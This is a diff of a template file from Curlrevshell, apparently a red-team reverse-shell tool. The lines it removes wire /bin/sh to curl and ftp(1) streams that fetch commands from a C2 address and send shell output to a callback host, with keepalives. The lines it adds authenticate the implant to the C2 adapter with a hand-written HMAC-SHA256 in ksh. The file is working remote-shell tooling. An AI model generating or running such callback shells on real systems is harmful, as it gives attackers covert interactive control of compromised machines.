@@ -3,7 +3,7 @@
      * Curlrevshell -template template.
      * By J. Stuart McMurray
      * Created 20260111
-     * Last Modified 20260205
+     * Last Modified 20261018
      */ -}}
 
 {{/* ftp is a subtemplate with the common ftp(1) args used for everything. */}}
@@ -17,52 +17,48 @@ ftp -M -o- -S cafile=m4_cafile -V -w 15
 {{template "ftp"}} https://{{.C2Addr}}
 {{- end -}}
 
-{{/* script hooks up a shell to two ftp(1)s. */}}
-{{- define "script" -}}
-#!/bin/ksh
-set -euo pipefail
-KAINT=5 # KeepAlive interval
+{{/* auth sets AUTH, which authenticates our ID to the adapter, if we've a
+     secret from start_callbacks.sh. */}}
+{{- define "auth" -}}
+{{/* esc prints the hex in $1 as print(1) octal escapes, with each byte xor'd
+     with $2. */ -}}
+esc() {
+	typeset H=$1 P
+	typeset -i8 B
+	while [[ -n "$H" ]]; do
+		P=${H%"${H#??}"}
+		H=${H#??}
+		B=$((16#$P ^ $2))
+		print -rn -- "\\0${B#8#}"
+	done
+}
 
-{{/* Input stream */ -}}
-(
-	cat <<'_eof'
-cat <<'_eof2'
- ___________________
-< In the installer! >
- -------------------
-        \   ^__^
-         \  (oo)\_______
-            (__)\       )\/\
-                ||----w |
-                ||     ||
-_eof2
-_eof
-	exec {{template "curl" .}}/{{.URLPaths.In }}/{{.ID}} </dev/null
-) |&
-INPID=$!
+{{/* token prints the HMAC-SHA256 of $2 keyed with the hex in $1, which may
+     be at most 64 bytes, as with the adapter's -secret.  There's no
+     openssl(1) on the ramdisk, so we do it by hand.  Bytes stay escaped until
+     print(1) writes them, so NULs are fine.  The adapter's
+     TestSessionToken_Script checks this against its own tokens. */ -}}
+token() {
+	typeset K=$1 IH
+	while [[ ${#K} -lt 128 ]]; do K=${K}00; done
+	IH=$({ print -n -- "$(esc "$K" 16#36)"; print -rn -- "$2"; } |
+		sha256 -q)
+	print -n -- "$(esc "$K" 16#5c)$(esc "$IH" 0)" | sha256 -q
+}
 
-{{/* Shell with numbered output lines. */ -}}
-/bin/sh <&p 2>&1 | cat -n -u |
-{{/* Output stream to ftp(1) adapter. */ -}}
-(
-	while read -r; do
-		echo "$REPLY"
-		if ! {{template "ftp"}} \
-			"https://m4_oqa_cbaddr/line/{{.ID}}?$REPLY"; then
-			break
-		fi
-	done 
-	kill $INPID
-) &
+AUTH=
+if [[ -n "${OQA_SECRET:-}" ]]; then
+	AUTH=/$(token "$OQA_SECRET" "{{.ID}}")
+fi
+{{- end -}}
+
+{{/* input is the command which gets our input from curlrevshell. */}}
+{{- define "input" -}}
+{{template "curl" .}}/{{.URLPaths.In }}/{{.ID}}
+{{- end -}}
 
-{{- /* Output stream keepalives. */}}
-sleep $KAINT
-while [[ -n "$(jobs -l)" ]]; do
-	{{template "ftp"}} "https://m4_oqa_cbaddr/keepalive/{{.ID}}"
-	sleep $KAINT
-done
-{{- /* Explicitly close the output stream when we're done. */}}
-{{template "ftp"}} "https://m4_oqa_cbaddr/close/{{.ID}}"
-{{  end -}}
+m4_dnl The rest of the script is shared with the adapter's stager.
+m4_define(m4_oqa_keepalive, 5)m4_dnl
+m4_include(src/script.tmpl.m4)m4_dnl
 
 {{/* vim: set filetype=gotexttmpl noexpandtab smartindent: */ -}}